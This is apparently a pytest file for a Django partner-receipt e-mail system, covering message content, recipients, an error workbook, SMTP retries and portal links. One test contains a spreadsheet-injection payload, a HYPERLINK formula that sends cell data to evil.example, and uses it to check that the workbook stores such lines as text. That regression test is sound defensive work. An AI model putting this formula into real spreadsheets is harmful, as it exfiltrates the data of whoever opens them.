"""Receipt e-mails: content, recipients, the error workbook, re-sending and failed sends."""

from __future__ import annotations

import io
import socket
from typing import Any

import django_rq
import pytest
from django.core import mail
from django.db import transaction
from openpyxl import load_workbook
from rq import SimpleWorker
from rq.job import Job

from partners.models import Receipt, ReceiptDelivery
from partners.receipts.jobs import receipt_delivery_send_job
from partners.receipts.services import receipt_recipients
from tests.conftest import queue_wipe
from tests.factories import ReceiptRecipientFactory
from tests.partners.inbound.conftest import Deliver, World

WORKED_EXAMPLE = {
    "ftp_dpm_21_1700000000.sync": "u1\td_sid=10,d_sid=11\n"
    "u2\td_sid=90,zz=1\n"
    "u9\td_sid=10\n"
    "u1 d_sid=10\n"
}


@pytest.fixture
def receipt(world: World, deliver: Deliver, settings: Any) -> Receipt:
    settings.PARTNER_SOLUTIONS_EMAILS = ["solutions@platform.test"]
    settings.PORTAL_BASE_URL = "https://portal.test"
    return deliver(WORKED_EXAMPLE)


def _send(receipt: Receipt) -> mail.EmailMultiAlternatives:
    delivery = receipt.deliveries.get()
    mail.outbox.clear()
    receipt_delivery_send_job(delivery.pk)
    (message,) = mail.outbox
    return message  # type: ignore[return-value]


def test_the_e_mail_of_the_spec_worked_example(receipt: Receipt, world: World) -> None:
    message = _send(receipt)
    partner = world.partner
    assert message.subject == (f"Server-to-Server processing result: {partner.name} (DPID 21)")
    body = message.body
    assert f"Hello {partner.name} (PID {partner.pk})," in body
    assert "  ftp_dpm_21_1700000000.sync\n" in body
    expected = {
        "Records received": 4,
        "Format errors": 1,
        "Invalid ID": 0,
        "No matching ID": 1,
        "No trait realized": 1,
        "Records processed": 4,
        "Stored records": 1,
        "Total devices": 1,
        "Total signals": 5,
        "Total unused signals": 1,
        "Total realized traits": 2,
        "Total removed traits": 0,
        "Total traits failed validation": 1,
        "Total users with traits that failed validation": 1,
    }
    counter_lines = [line for line in body.splitlines() if line[:48].rstrip() in expected]
    assert [(line[:48].rstrip(), int(line[48:])) for line in counter_lines] == list(
        expected.items()
    )  # every counter, in the SPEC's order, with its value
    assert "Job start time" in body
    assert "Job end time" in body
    assert "ftp_dpm_21_1700000000.sync line 4: format error - no tab" in body
    assert "ftp_dpm_21_1700000000.sync line 3: no matching id - no ID mapping" in body
    assert f"https://portal.test/admin/partners/receipt/{receipt.pk}/change/" in body
    html, mime = message.alternatives[0]
    assert isinstance(html, str)
    assert mime == "text/html"
    assert '>Stored records</th><td style="text-align: right;">1</td>' in html
    assert receipt.deliveries.get().status == ReceiptDelivery.Status.SENT


def test_recipients_internal_always_partner_when_enabled_narrowed_by_data_source(
    receipt: Receipt, world: World
) -> None:
    partner = world.partner
    ReceiptRecipientFactory.create(partner=partner, email="all@partner.test")
    ReceiptRecipientFactory.create(
        partner=partner, email="ds21@partner.test", data_source=world.source
    )
    ReceiptRecipientFactory.create(
        partner=partner, email="ds22@partner.test", data_source=world.other
    )
    ReceiptRecipientFactory.create(partner=partner, email="off@partner.test", enabled=False)
    partner.receipts_enabled = False
    partner.save()
    assert receipt_recipients(Receipt.objects.get(pk=receipt.pk)) == ["solutions@platform.test"]
    partner.receipts_enabled = True
    partner.save()
    assert receipt_recipients(Receipt.objects.get(pk=receipt.pk)) == [
        "solutions@platform.test",
        "all@partner.test",
        "ds21@partner.test",
    ]


def test_the_attached_workbook_lists_every_rejected_line(receipt: Receipt) -> None:
    message = _send(receipt)
    ((name, content, mime),) = message.attachments
    assert name == "errors-ftp_dpm_21_1700000000.sync.xlsx"
    assert mime.endswith("spreadsheetml.sheet")
    book = load_workbook(io.BytesIO(content), read_only=True)
    rows = list(book["Rejected lines"].iter_rows(values_only=True))
    assert rows[0] == ("File", "Line", "Error", "Reason", "Start of the line")
    assert [(r[1], r[2]) for r in rows[1:]] == [
        (2, "no trait realized"),
        (2, "trait failed validation"),
        (3, "no matching id"),
        (4, "format error"),
    ]
    summary = {r[0]: r[1] for r in book["Summary"].iter_rows(values_only=True) if len(r) > 1}
    assert summary["Stored records"] == 1
    assert summary["Records received"] == 4


def test_a_big_workbook_is_linked_not_attached(receipt: Receipt, settings: Any) -> None:
    settings.RECEIPT_ATTACHMENT_MAX_BYTES = 100
    message = _send(receipt)
    assert message.attachments == []
    assert f"https://portal.test/admin/partners/receipt/{receipt.pk}/workbook/" in message.body


def _closed_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def test_a_failing_smtp_server_loses_nothing_and_rq_retries(
    receipt: Receipt, settings: Any, django_capture_on_commit_callbacks: Any
) -> None:
    queue = django_rq.get_queue("notify")
    queue.empty()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", _closed_port()
    settings.NOTIFY_RETRY_INTERVALS = [600]
    delivery = receipt.deliveries.get()
    with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
        from partners.receipts.queueing import receipt_delivery_enqueue

        receipt_delivery_enqueue(delivery.pk)
    job = Job.fetch(f"receipt-delivery-{delivery.pk}", connection=queue.connection)
    SimpleWorker([queue], connection=queue.connection).work(burst=True)
    delivery.refresh_from_db()
    assert delivery.status == ReceiptDelivery.Status.FAILED
    assert "ConnectionRefusedError" in delivery.error
    assert Receipt.objects.filter(pk=receipt.pk).exists()  # the processing stands
    job.refresh()
    assert job.retries_left == settings.NOTIFY_RETRY_MAX - 1  # RQ will try again...
    assert job.id in queue.scheduled_job_registry  # ...in 10 minutes

    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    mail.outbox.clear()
    queue.scheduled_job_registry.requeue(job)  # the 10 minutes are up
    SimpleWorker([queue], connection=queue.connection).work(burst=True)
    delivery.refresh_from_db()
    assert (delivery.status, delivery.attempts) == (ReceiptDelivery.Status.SENT, 2)
    assert len(mail.outbox) == 1


def test_partner_data_in_the_workbook_is_text_never_a_formula(
    world: World, deliver: Deliver, settings: Any
) -> None:
    """Before: a rejected line '=HYPERLINK(…)' was stored as a live formula in the workbook
    partners download and the internal list receives."""
    settings.PARTNER_SOLUTIONS_EMAILS = ["solutions@platform.test"]
    line = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    receipt = deliver({"ftp_dpm_21_1700000000.sync": f"u1\td_sid=10\n{line}\n"})
    ((_, content, _),) = _send(receipt).attachments
    book = load_workbook(io.BytesIO(content))  # not read-only: cells keep their type
    sheet = book["Rejected lines"]
    starts = [sheet.cell(row=r, column=5) for r in range(2, sheet.max_row + 1)]
    assert len(starts) == 1
    assert line.startswith(str(starts[0].value))
    assert {c.data_type for c in starts} == {"s"}
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_a_retried_delivery_sends_only_to_the_recipients_not_yet_sent(
    receipt: Receipt, settings: Any
) -> None:
    delivery = receipt.deliveries.get()
    ReceiptDelivery.objects.filter(pk=delivery.pk).update(
        recipients=["a@partner.test", "b@partner.test", "c@partner.test"],
        sent_to=["a@partner.test"],  # an earlier attempt got that far
    )
    mail.outbox.clear()
    receipt_delivery_send_job(delivery.pk)
    receipt_delivery_send_job(delivery.pk)  # and once more: nothing left to send
    assert [message.to for message in mail.outbox] == [["b@partner.test"], ["c@partner.test"]]
    delivery.refresh_from_db()
    assert delivery.sent_to == ["a@partner.test", "b@partner.test", "c@partner.test"]
    assert (delivery.status, delivery.attempts) == (ReceiptDelivery.Status.SENT, 1)


class _SMTPHandler:
    """A real SMTP server's handler (aiosmtpd) that keeps what it accepted, and holds the
    DATA of ``hold_for``'s first message without answering until ``release`` is set: the
    sending worker is killed while it waits for the server's "250"."""

    def __init__(self, hold_for: str) -> None:
        import threading

        self.hold_for = hold_for
        self.held = threading.Event()
        self.release = threading.Event()
        self.accepted: list[str] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802 (aiosmtpd calls it so)
        import asyncio

        if self.hold_for in envelope.rcpt_tos and not self.held.is_set():
            self.held.set()
            while not self.release.is_set():
                await asyncio.sleep(0.05)
            return "451 the client went away"  # never taken: no 250 was sent
        self.accepted.extend(envelope.rcpt_tos)
        return "250 OK"


@pytest.mark.django_db(transaction=True)
def test_a_worker_killed_mid_send_then_retried_sends_each_recipient_one_message(
    world: World, deliver: Deliver, settings: Any
) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    from aiosmtpd.controller import Controller
    from rq.registry import StartedJobRegistry

    from tests.partners.inbound.test_jobs import BASE_DIR, worker_environment

    queue = queue_wipe(django_rq.get_queue("notify"))
    recipients = ["a@partner.test", "b@partner.test", "c@partner.test"]
    settings.PARTNER_SOLUTIONS_EMAILS = recipients
    settings.NOTIFY_RETRY_INTERVALS = [0]  # a retry is queued again at once
    settings.ALERT_FAILED_SHARE = 1.0  # no alert about the worked example's failed records

    handler = _SMTPHandler(hold_for="b@partner.test")
    smtp = Controller(handler, hostname="127.0.0.1", port=_closed_port())
    smtp.start()
    env = {
        **worker_environment(),
        "EMAIL_BACKEND": "django.core.mail.backends.smtp.EmailBackend",
        "EMAIL_HOST": "127.0.0.1",
        "EMAIL_PORT": str(smtp.port),
    }

    def worker() -> subprocess.Popen[bytes]:
        return subprocess.Popen(
            [sys.executable, str(BASE_DIR / "manage.py"), "rqworker", "notify", "--burst"],
            env=env,
            start_new_session=True,  # its own process group: the work horse dies with it
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )

    try:
        receipt = deliver(WORKED_EXAMPLE)  # the delivery is queued as the batch commits
        delivery = receipt.deliveries.get()
        assert delivery.recipients == recipients
        first = worker()
        assert handler.held.wait(timeout=60), "the worker never reached the second recipient"
        os.killpg(first.pid, signal.SIGKILL)  # while it waits for the server's answer
        first.wait(timeout=30)
        handler.release.set()
        delivery.refresh_from_db()
        assert delivery.sent_to == ["a@partner.test"]
        assert handler.accepted == ["a@partner.test"]

        # RQ's maintenance finds the abandoned job (here without waiting) and queues it again.
        StartedJobRegistry(queue=queue).cleanup(timestamp=time.time() + 10**6)
        assert queue.job_ids == [f"receipt-delivery-{delivery.pk}"]
        second = worker()
        assert second.wait(timeout=120) == 0, second.stderr.read() if second.stderr else ""
    finally:
        handler.release.set()
        smtp.stop()

    assert sorted(handler.accepted) == recipients  # each exactly one message
    delivery.refresh_from_db()
    assert delivery.status == ReceiptDelivery.Status.SENT
    assert delivery.sent_to == recipients


class _Inbox:
    """A real SMTP server's handler (aiosmtpd): every message as it arrived on the wire."""

    def __init__(self) -> None:
        self.messages: list[tuple[list[str], Any]] = []  # (envelope recipients, message)

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802 (aiosmtpd calls it so)
        from email import message_from_bytes, policy

        self.messages.append(
            (list(envelope.rcpt_tos), message_from_bytes(envelope.content, policy=policy.default))
        )
        return "250 OK"


def _links(message: Any) -> set[str]:
    import re

    text = "".join(
        part.get_content() for part in message.walk() if part.get_content_maintype() == "text"
    )
    return set(re.findall(r"https?://[^\s\"<>]+", text))


@pytest.mark.parametrize("attachment_max", [5 * 1024**2, 100])  # attached, or too big: linked
def test_each_recipient_gets_links_it_can_open_and_no_other_address(
    world: World, deliver: Deliver, settings: Any, attachment_max: int
) -> None:
    """Before: every message linked into the staff admin (a partner following the links was
    refused), so past the attachment limit a partner could not get its workbook at all."""
    from aiosmtpd.controller import Controller
    from django.test import Client

    from tests.factories import UserFactory
    from tests.partners.portal.test_pages import PASSWORD, _login

    settings.PARTNER_SOLUTIONS_EMAILS = ["solutions@platform.test"]
    settings.PORTAL_BASE_URL = "https://portal.test:8443"
    settings.RECEIPT_ATTACHMENT_MAX_BYTES = attachment_max
    world.partner.receipts_enabled = True
    world.partner.save()
    ReceiptRecipientFactory.create(partner=world.partner, email="ops@partner.test")
    inbox = _Inbox()
    smtp = Controller(inbox, hostname="127.0.0.1", port=_closed_port())
    smtp.start()
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = "127.0.0.1", smtp.port
    try:
        receipt = deliver(WORKED_EXAMPLE)
        receipt_delivery_send_job(receipt.deliveries.get().pk)
    finally:
        smtp.stop()
    received = {tuple(rcpt): message for rcpt, message in inbox.messages}
    assert set(received) == {("solutions@platform.test",), ("ops@partner.test",)}
    partner_message = received[("ops@partner.test",)]
    internal_message = received[("solutions@platform.test",)]
    # The partner never sees the internal list's address, anywhere in its message.
    assert "solutions@platform.test" not in partner_message.as_string()
    assert partner_message["To"] == "ops@partner.test"
    assert (partner_message["Cc"], partner_message["Bcc"]) == (None, None)
    attached = [part.get_filename() for part in partner_message.iter_attachments()]
    assert attached == (["errors-ftp_dpm_21_1700000000.sync.xlsx"] if attachment_max > 100 else [])

    partner_links, internal_links = _links(partner_message), _links(internal_message)
    base = "https://portal.test:8443/"
    assert all(url.startswith(base) for url in partner_links | internal_links)
    assert {url.removeprefix(base[:-1]) for url in partner_links} == {
        f"/portal/receipts/{receipt.pk}/",
        f"/portal/receipts/{receipt.pk}/workbook/",
    }
    assert {url.removeprefix(base[:-1]) for url in internal_links} == {
        f"/admin/partners/receipt/{receipt.pk}/change/",
        f"/admin/partners/receipt/{receipt.pk}/workbook/",
    }

    # Opened by the one who receives them: the partner's user in the portal...
    partner_client = _login(world.partner, "ops")
    for url in partner_links:
        page = partner_client.get(url.removeprefix(base[:-1]))
        assert page.status_code == 200, url
    page = partner_client.get(f"/portal/receipts/{receipt.pk}/workbook/")
    assert load_workbook(io.BytesIO(b"".join(page.streaming_content)), read_only=True)  # type: ignore[attr-defined]
    # ... who, not logged in yet, lands on the receipt once logged in.
    anonymous = Client()
    login = anonymous.get(f"/portal/receipts/{receipt.pk}/")
    assert login.status_code == 302
    assert login["Location"].startswith("/portal/login/?next=")
    done = anonymous.post(
        login["Location"], {"username": "ops", "password": PASSWORD}, follow=False
    )
    assert done["Location"] == f"/portal/receipts/{receipt.pk}/"
    # ... and staff in the admin.
    staff = Client()
    staff.force_login(UserFactory.create(username="staff", is_staff=True, is_superuser=True))
    for url in internal_links:
        assert staff.get(url.removeprefix(base[:-1])).status_code == 200, url
